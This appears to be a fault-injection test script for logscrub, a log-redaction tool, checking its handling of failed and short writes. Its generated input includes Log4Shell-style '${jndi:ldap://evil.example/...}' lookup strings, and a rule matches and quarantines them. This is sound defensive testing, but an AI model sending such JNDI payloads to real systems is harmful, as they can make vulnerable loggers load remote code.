#!/usr/bin/env bash
# run.sh: runs logscrub with write failures and short writes injected by write_fail.so.
# Usage: tests/inject/run.sh [LOGSCRUB_BINARY [WRITE_FAIL_SO]]
# Every case runs with --threads 1 (the stream) and --threads 3 (the pool and its writer).
#
# Every failure case (ENOSPC, EIO, EPIPE on stdout, -o FILE, the quarantine and the
# audit file) must exit 3 without a crash, leave on stdout only a prefix of the
# reference output, and keep record content out of stderr. Short writes (and EINTR)
# must be retried: output and quarantine byte-identical to the reference, exit 0.
# INJECT_PRELOAD: libraries to preload ahead of the shim (make asan puts the ASan
# runtime there, which must come first in the library list).
# SPDX-License-Identifier: Apache-2.0
set -u
bin=$(cd "$(dirname "${1:-./logscrub}")" && pwd)/$(basename "${1:-./logscrub}")
shim=$(cd "$(dirname "${2:-build/write_fail.so}")" && pwd)/$(basename "${2:-build/write_fail.so}")
tmp=$(mktemp -d)
trap 'rm -rf "$tmp"' EXIT
pass=0 fail=0
MARK=INJECT-MARK-5b1e   # in every input record; must never show up in stderr
SECRET=Zq7Wm2Kp9Lx4Rt8Vb3Nc

cat > "$tmp/rules.yaml" <<'EOF'
rules:
  - id: bearer
    regex: '(?i)bearer\s+([A-Za-z0-9._~+/-]{8,})'
    keywords: [bearer]
    secret_group: 1
  - id: jndi
    regex: '\$\{jndi:'
    keywords: ['${jndi:']
    action: quarantine
EOF

# About 1.3 MB: clean lines, redacted secrets, quarantined records, a long line.
python3 - "$tmp/input" "$MARK" "$SECRET" <<'PY'
import sys
path, mark, secret = sys.argv[1:]
with open(path, "w") as f:
    for i in range(20000):
        if i % 10 == 3:
            f.write(f"{i} {mark} Authorization: Bearer {secret}{i}\n")
        elif i % 97 == 5:
            f.write(f"{i} {mark} GET /?q=${{jndi:ldap://evil.example/{i}}}\n")
        elif i % 1000 == 7:
            f.write(f"{i} {mark} " + "x" * 5000 + "\n")
        else:
            f.write(f"{i} {mark} user logged in from 10.0.{i % 256}.{i % 100} ok\n")
PY

strip_time() { sed -E 's/"time":"[^"]*",//'; }

# The reference run, without the shim.
"$bin" --threads 1 -c "$tmp/rules.yaml" --quarantine "$tmp/ref.q" --audit "$tmp/ref.a" "$tmp/input" \
    > "$tmp/ref.out" 2> "$tmp/ref.err"
rc=$?
if [ $rc != 0 ] || [ ! -s "$tmp/ref.out" ] || [ ! -s "$tmp/ref.q" ]; then
    echo "inject: reference run failed (rc $rc)"; cat "$tmp/ref.err"; exit 1
fi
strip_time < "$tmp/ref.q" > "$tmp/ref.q.notime"

ok() { pass=$((pass+1)); }
bad() { fail=$((fail+1)); echo "inject $1 (--threads $T): FAIL: $2"; }

# No record content (the marker, the secret) in stderr.
clean_stderr() { ! grep -q -e "$MARK" -e "$SECRET" "$tmp/err"; }

# run NAME ENV... : run logscrub under the shim with the given INJECT_* variables.
run() {
    local name=$1; shift
    rm -f "$tmp/q" "$tmp/a" "$tmp/o" "$tmp/out" "$tmp/err"
    env LD_PRELOAD="${INJECT_PRELOAD:+$INJECT_PRELOAD:}$shim" "$@" "$bin" -c "$tmp/rules.yaml" --quarantine "$tmp/q" --audit "$tmp/a" \
        --threads "$T" $EXTRA "$tmp/input" > "$tmp/out" 2> "$tmp/err"
}

# expect_fail NAME FILE_WITH_CLEAN_OUTPUT ENV... : exit 3, a prefix of the reference, quiet stderr.
expect_fail() {
    local name=$1 outfile=$2; shift 2
    run "$name" "$@"
    local rc=$? n
    n=$(stat -c %s "$outfile" 2>/dev/null || echo 0)
    if [ $rc != 3 ]; then bad "$name" "exit $rc, expected 3"; return; fi
    if ! cmp -s -n "$n" "$outfile" "$tmp/ref.out"; then bad "$name" "output is not a prefix of the reference"; return; fi
    if ! clean_stderr; then bad "$name" "stderr contains record content"; return; fi
    if [ ! -s "$tmp/err" ] && [ "${QUIET_OK:-0}" != 1 ]; then bad "$name" "no diagnostic on stderr"; return; fi
    ok
}

# expect_same NAME ENV... : exit 0, output and quarantine identical to the reference.
expect_same() {
    local name=$1; shift
    run "$name" "$@"
    local rc=$?
    if [ $rc != 0 ]; then bad "$name" "exit $rc, expected 0"; return; fi
    if ! cmp -s "${OUT:-$tmp/out}" "$tmp/ref.out"; then bad "$name" "clean output differs from the reference"; return; fi
    if ! strip_time < "$tmp/q" | cmp -s - "$tmp/ref.q.notime"; then bad "$name" "quarantine differs from the reference"; return; fi
    if ! clean_stderr; then bad "$name" "stderr contains record content"; return; fi
    ok
}

cases() {
    EXTRA=""
    for e in ENOSPC EIO; do
        for after in 0 1 65536 1000000; do
            expect_fail "stdout-$e-after-$after" "$tmp/out" INJECT_FD=1 INJECT_ERRNO=$e INJECT_AFTER=$after
        done
        for after in 0 500 20000; do
            expect_fail "quarantine-$e-after-$after" "$tmp/out" INJECT_PATH="$tmp/q" INJECT_ERRNO=$e INJECT_AFTER=$after
        done
        expect_fail "audit-$e" "$tmp/out" INJECT_PATH="$tmp/a" INJECT_ERRNO=$e INJECT_AFTER=3000
    done
    # EPIPE: the reader went away. Exit 3 and no complaint (house style rule 12).
    for after in 0 65536; do
        QUIET_OK=1 expect_fail "stdout-EPIPE-after-$after" "$tmp/out" INJECT_FD=1 INJECT_ERRNO=EPIPE INJECT_AFTER=$after
        if [ -s "$tmp/err" ]; then bad "stdout-EPIPE-after-$after-quiet" "a message on stderr for EPIPE"; else ok; fi
    done
    QUIET_OK=1 expect_fail "quarantine-EPIPE" "$tmp/out" INJECT_PATH="$tmp/q" INJECT_ERRNO=EPIPE INJECT_AFTER=100

    # -o FILE instead of stdout.
    EXTRA="-o $tmp/o"
    expect_fail "output-file-ENOSPC" "$tmp/o" INJECT_PATH="$tmp/o" INJECT_ERRNO=ENOSPC INJECT_AFTER=300000

    # Short writes and EINTR must be retried, never lose or repeat a byte.
    EXTRA=""
    expect_same "stdout-short-half" INJECT_FD=1 INJECT_SHORT=half
    expect_same "stdout-short-7-eintr" INJECT_FD=1 INJECT_SHORT=7 INJECT_EINTR=1
    expect_same "stdout-short-1" INJECT_FD=1 INJECT_SHORT=1
    expect_same "quarantine-short-1" INJECT_PATH="$tmp/q" INJECT_SHORT=1
    expect_same "quarantine-short-3-eintr" INJECT_PATH="$tmp/q" INJECT_SHORT=3 INJECT_EINTR=1
    EXTRA="-o $tmp/o"
    OUT="$tmp/o" expect_same "output-file-short-5" INJECT_PATH="$tmp/o" INJECT_SHORT=5
}

# Both write paths: the single-threaded stream and the thread pool with its writer thread.
for T in 1 3; do
    cases
done

echo "inject: $pass passed, $fail failed"
[ $fail = 0 ]
